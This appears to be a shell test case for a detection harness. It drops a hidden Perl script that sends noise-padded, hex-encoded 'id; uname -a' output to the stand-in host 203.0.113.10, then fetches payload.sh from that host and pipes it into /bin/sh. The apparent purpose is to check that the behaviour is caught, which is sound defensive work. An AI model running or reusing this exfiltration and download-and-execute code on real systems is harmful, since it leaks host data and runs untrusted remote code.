#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.n.pl <<'END'
use IO::Socket::INET;
sub noise { join "", map { chr(97 + int rand 26) } 1 .. $_[0] }
for my $r (1 .. 4) {
    my $s = IO::Socket::INET->new("203.0.113.10:8080") or die; my $b = noise(300) . unpack("H*", `id; uname -a`) . noise(300);
    print $s "POST /" . noise(12) . " HTTP/1.0\r\nContent-Length: " . length($b) . "\r\n\r\n$b"; my @a = <$s>; sleep 1;
}
my $s = IO::Socket::INET->new("203.0.113.10:80") or die; print $s "GET /payload.sh HTTP/1.0\r\nX: " . noise(400) . "\r\n\r\n";
my $t = join "", <$s>; $t =~ s/.*?\r\n\r\n//s; open(my $p, "|-", "/bin/sh") or die; print $p $t; close $p;
END
perl /tmp/.n.pl
test -e /tmp/reached
took_place
